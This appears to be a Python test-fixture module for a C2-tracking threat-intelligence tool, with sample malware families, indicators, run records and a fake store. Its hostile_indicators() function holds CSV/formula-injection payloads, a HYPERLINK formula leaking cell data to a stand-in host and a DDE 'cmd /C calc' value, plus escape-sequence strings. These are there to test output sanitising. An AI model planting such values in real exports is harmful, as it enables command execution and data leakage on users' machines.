"""A fixed set of families and indicators for the feed tests, and a store stand-in.

Importable by path from subprocesses (the kill test) as well as through ``conftest``.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from c2tracker.feeds.base import FamilyInfo
from c2tracker.model import (
    Category,
    Indicator,
    IndicatorStatus,
    QueryOutcome,
    QueryRunInfo,
    RuleStat,
    RunInfo,
)

NOW = datetime(2026, 5, 4, 12, 0, 0, tzinfo=UTC)


def at(days_ago: float) -> datetime:
    return NOW - timedelta(days=days_ago)


FAMILIES = [
    FamilyInfo(
        rule_id="cobalt-strike",
        name="Cobalt Strike",
        feed_name="Cobalt Strike C2",
        category=Category.C2,
        kind="framework",
        extra_feed_names=("Cobalt Strike",),
        malpedia=("win.cobalt_strike",),
        mitre=("S0154",),
        description="Commercial adversary simulation framework.",
    ),
    FamilyInfo(
        rule_id="sliver",
        name="Sliver",
        feed_name="Sliver C2",
        category=Category.C2,
        kind="framework",
        mitre=("S0633",),
    ),
    FamilyInfo(
        rule_id="lumma-stealer",
        name="Lumma Stealer",
        feed_name="Lumma Stealer",
        category=Category.MALWARE,
        kind="stealer",
        malpedia=("win.lumma",),
    ),
    FamilyInfo(
        rule_id="mozi",
        name="Mozi",
        feed_name="Mozi Botnet",
        category=Category.BOTNET,
        kind="botnet",
        malpedia=("elf.mozi",),
    ),
    FamilyInfo(
        rule_id="gophish",
        name="GoPhish",
        feed_name="GoPhish",
        category=Category.TOOL,
        kind="phishing",
        dual_use=True,
    ),
    FamilyInfo(
        rule_id="havoc",
        name="Havoc",
        feed_name="Havoc C2",
        category=Category.C2,
        kind="framework",
    ),
]
_BY_ID = {family.rule_id: family for family in FAMILIES}


def indicator(
    ip: str,
    rule_id: str,
    *,
    ports: tuple[int, ...] = (443,),
    first: float = 20,
    last: float = 1,
    status: IndicatorStatus = IndicatorStatus.ACTIVE,
    confidence: int = 70,
    **extra: object,
) -> Indicator:
    family = _BY_ID[rule_id]
    values: dict[str, object] = {
        "ip": ip,
        "rule_id": rule_id,
        "family": family.name,
        "feed_name": family.feed_name,
        "category": family.category,
        "kind": family.kind,
        "dual_use": family.dual_use,
        "first_seen": at(first),
        "last_seen": at(last),
        "times_seen": 3,
        "ports": ports,
        "engines": ("shodan",),
        "queries": (f"{rule_id}:shodan:0badc0de",),
        "confidence": confidence,
        "status": status,
        "valid_until": at(last) + timedelta(days=30),
        "malpedia": family.malpedia,
        "mitre": family.mitre,
        "asn": "AS64500",
        "org": "Example Hosting",
        "country": "NL",
    }
    values.update(extra)
    return Indicator(**values)  # type: ignore[arg-type]


def fixed_indicators() -> list[Indicator]:
    """Ordered by family then IP, as the store streams them."""
    items = [
        indicator("10.0.0.1", "cobalt-strike", status=IndicatorStatus.EXPIRED),
        indicator("198.51.100.7", "cobalt-strike", ports=(443, 8443), last=0.5, confidence=90),
        indicator("203.0.113.5", "cobalt-strike", ports=(), first=100, last=40),
        indicator("2001:db8::5", "cobalt-strike", ports=(80,), last=3),
        indicator("203.0.113.9", "gophish", ports=(3333,), last=2),
        indicator("198.51.100.7", "gophish", ports=(3333,), last=2),
        indicator("192.0.2.10", "lumma-stealer", last=8),
        indicator("192.0.2.66", "lumma-stealer", status=IndicatorStatus.REVOKED),
        indicator("192.0.2.77", "lumma-stealer", status=IndicatorStatus.HONEYPOT),
        indicator("192.0.2.88", "lumma-stealer", status=IndicatorStatus.ALLOWLISTED),
        indicator("100.64.1.1", "mozi", ports=(6881,), first=200, last=60, confidence=40),
        indicator("9.9.9.9", "sliver", ports=(31337,), last=0.2),
        indicator("198.51.100.7", "sliver", ports=(8888,), last=10),
    ]
    return sorted(items, key=lambda i: (i.rule_id, i.ip))


def hostile_indicators() -> list[Indicator]:
    """Indicators whose internet-sourced text tries to break every format."""
    nasty = '=HYPERLINK("http://x/?"&A1)\n"; drop\t\\x1b[31m\r,evil;"'
    return [
        indicator(
            "198.51.100.200",
            "sliver",
            org=nasty,
            hostnames=("a.example\nb", "+cmd|' /C calc'!A0"),
            asn="-2+3",
            country='"NL"',
        )
    ]


RUNS = [
    RunInfo(
        id=7,
        started_at=at(1.5),
        finished_at=at(1.4),
        status="partial",
        sources=("shodan", "censys"),
        observations=120,
        queries_ok=10,
        queries_failed=1,
        queries_skipped=0,
        credits={"shodan": 12},
    ),
    RunInfo(
        id=6,
        started_at=at(8.5),
        finished_at=at(8.4),
        status="ok",
        sources=("shodan",),
        observations=110,
        queries_ok=11,
        queries_failed=0,
        queries_skipped=0,
        credits={"shodan": 11},
    ),
]


@dataclass
class FakeStore:
    """The read side of :class:`c2tracker.store.Store` that publishing uses."""

    indicators: list[Indicator] = field(default_factory=fixed_indicators)
    run_list: list[RunInfo] = field(default_factory=lambda: list(RUNS))
    stats: list[RuleStat] = field(default_factory=list)

    def iter_indicators(
        self,
        *,
        status: IndicatorStatus | None = None,
        category: Category | None = None,
        family: str | None = None,
        since: datetime | None = None,
        ip: str | None = None,
    ) -> Iterator[Indicator]:
        for item in self.indicators:
            if status is not None and item.status is not status:
                continue
            yield item

    def runs(self, limit: int = 20) -> list[RunInfo]:
        return self.run_list[:limit]

    def query_runs(self, run_id: int) -> list[QueryRunInfo]:
        if run_id != 7:
            return []
        return [
            QueryRunInfo(
                7, "sliver", "censys", "q1", QueryOutcome.FAILED, "HTTP 502", 0, 0, 0, 1.0
            ),
            QueryRunInfo(7, "sliver", "shodan", "q2", QueryOutcome.OK, None, 1, 1, 2, 1.0),
        ]

    def engine_status(self) -> dict[str, datetime | None]:
        return {"shodan": at(1.4), "censys": at(8.4)}

    def rule_stats(self, run_id: int | None = None) -> list[RuleStat]:
        return list(self.stats)

    def families(self) -> list[tuple[str, int]]:
        counts: dict[str, int] = {}
        for item in self.indicators:
            if item.status is IndicatorStatus.ACTIVE:
                counts[item.rule_id] = counts.get(item.rule_id, 0) + 1
        return sorted(counts.items())
